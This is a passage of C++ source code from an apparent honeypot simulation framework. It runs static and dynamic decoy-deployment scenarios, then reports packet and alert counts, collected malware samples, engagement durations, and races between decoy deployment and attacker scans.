      r.margin = r.scan_arrival - r.active_at;
      r.win = r.active_at < r.scan_arrival;
      races.push_back(r);
      break;
    }
  }

  artifacts.events = engine.events();
  artifacts.final_instances = engine.orchestrator().instances();
  artifacts.report = build_report(script, engine, races, "dynamic", seed);
  artifacts.report.samples_collected = vault.size();
  return artifacts;
}

ScenarioArtifacts ScenarioRunner::run_static(const ScenarioScript& script,
                                             const EngineModels& models,
                                             std::span<const Packet> traffic) const {
  ReservedIpPool pool = script.pool_ips.empty()
                            ? EngineConfig{}.make_pool()
                            : ReservedIpPool::from_list(script.subnet, script.pool_ips);

  SimulatedBackend backend(script.deploy_latency);
  MalwareVault vault;
  Engine::Options options;
  options.idle_timeout = script.idle_timeout;
  options.deploy_ahead = false;
  options.static_mode = true;
  options.engagement_gap = script.engagement_gap;
  Engine engine(pool, Catalog::default_catalog(), options, backend, models, vault);
  engine.begin(0.0);
  for (const Packet& p : traffic) engine.on_packet(p);
  engine.finish(script.duration);

  ScenarioArtifacts artifacts;
  artifacts.traffic.assign(traffic.begin(), traffic.end());
  artifacts.events = engine.events();
  artifacts.final_instances = engine.orchestrator().instances();
  artifacts.report = build_report(script, engine, {}, "static", script.seed);
  artifacts.report.samples_collected = vault.size();
  return artifacts;
}

// ---------------------------------------------------------------------------
// report rendering

namespace {

std::string fixed6(double v) {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.6f", v);
  return buf;
}

}  // namespace

std::string ScenarioReport::to_csv(size_t top_n) const {
  std::string out = "section,a,b,c,d\n";
  auto row = [&out](const std::string& s, const std::string& a, const std::string& b,
                    const std::string& c, const std::string& d) {
    out += s + ',' + a + ',' + b + ',' + c + ',' + d + '\n';
  };
  row("meta", "scenario", scenario, "", "");
  row("meta", "seed", std::to_string(seed), "", "");
  row("meta", "mode", mode, "", "");
  row("meta", "duration", fixed6(duration), "", "");
  row("counters", "total_packets", std::to_string(counters.total_packets), "", "");
  row("counters", "reserved_packets", std::to_string(counters.reserved_packets), "", "");
  row("counters", "ddos_packets", std::to_string(counters.ddos_packets), "", "");
  row("counters", "botnet_flows", std::to_string(counters.botnet_flows), "", "");
  row("counters", "ids_alerts", std::to_string(counters.ids_alerts), "", "");
  row("counters", "samples_collected", std::to_string(samples_collected), "", "");
  for (const auto& [tmpl, n] : deployments)
    row("deployments", tmpl, std::to_string(n), "", "");
  for (const auto& [tmpl, n] : reap_counts) row("reaps", tmpl, std::to_string(n), "", "");
  for (const auto& [tmpl, n] : counters.attacks_by_template)
    row("attacks", tmpl, std::to_string(n), "", "");
  for (const auto& [label, n] : counters.alerts_by_label)
    row("alerts", label, std::to_string(n), "", "");
  for (size_t i = 0; i < engagements.size() && i < top_n; ++i) {
    const auto& r = engagements[i];
    row("engagement", std::to_string(i + 1), r.attacker.str(), r.instance, fixed6(r.duration));
  }
  row("engagement_mean", fixed6(mean_engagement), "", "", "");
  row("engagement_count", std::to_string(engagements.size()), "", "", "");
  for (const auto& r : races) {
    row("race", std::to_string(r.burst), r.ip.str(), r.win ? "WIN" : "LOSE", fixed6(r.margin));
  }
  row("cpu_uptime", "total", fixed6(total_uptime), "", "");
  for (const auto& pt : cpu.per_template) row("cpu_uptime", pt.tmpl, fixed6(pt.uptime), "", "");
  row("cpu_saving", "total", fixed6(cpu.total_saved_pct), "", "");
  return out;
}

std::string ScenarioReport::to_text(size_t top_n) const {
  std::ostringstream out;
  out << "scenario " << scenario << "  seed " << seed << "  mode " << mode << "  duration "
      << fixed6(duration) << " s\n\n";
  out << "packets: total " << counters.total_packets << ", to reserved IPs "
      << counters.reserved_packets << "\n";
  out << "detections: ddos packets " << counters.ddos_packets << ", botnet flows "
      << counters.botnet_flows << ", ids alerts " << counters.ids_alerts << "\n";
  out << "malware samples collected: " << samples_collected << "\n\n";

  out << "deployments per template (deploy/reap):\n";
  for (const auto& [tmpl, n] : deployments) {
    auto it = reap_counts.find(tmpl);
    out << "  " << tmpl << "  " << n << "/" << (it == reap_counts.end() ? 0 : it->second)
        << "\n";
  }
  out << "\nattack counts per template (rule: IDS-positive requests + detector-positive "
         "packets/flows):\n";
  for (const auto& [tmpl, n] : counters.attacks_by_template)
    out << "  " << tmpl << "  " << n << "\n";

  out << "\ntop " << top_n << " engagements (attacker, instance, seconds):\n";
  for (size_t i = 0; i < engagements.size() && i < top_n; ++i) {
    const auto& r = engagements[i];
    out << "  " << (i + 1) << ". " << r.attacker.str() << "  " << r.instance << "  "
        << fixed6(r.duration) << "\n";
  }
  out << "mean engagement: " << fixed6(mean_engagement) << " s over " << engagements.size()
      << " sessions\n";

  if (!races.empty()) {
    out << "\nready-to-response races (pre-positioned decoy vs scan arrival):\n";
    for (const auto& r : races) {
      out << "  burst " << r.burst << "  " << r.ip.str() << "  "
          << (r.win ? "WIN" : "LOSE") << "  margin " << fixed6(r.margin) << " s\n";
    }
  }

  out << "\nuptime total " << fixed6(total_uptime) << " instance-seconds; CPU saving vs "
      << "always-on: " << fixed6(cpu.total_saved_pct) << " %\n";
  return out.str();
}

RaceOutcome race_check(double scan_rate_s_per_host, double spacing_hosts,
                       double deploy_latency_s) {
  double budget = spacing_hosts * scan_rate_s_per_host;
  RaceOutcome out;
  out.win = budget > deploy_latency_s;
  out.margin = budget - deploy_latency_s;
  return out;
}

}  // namespace soar
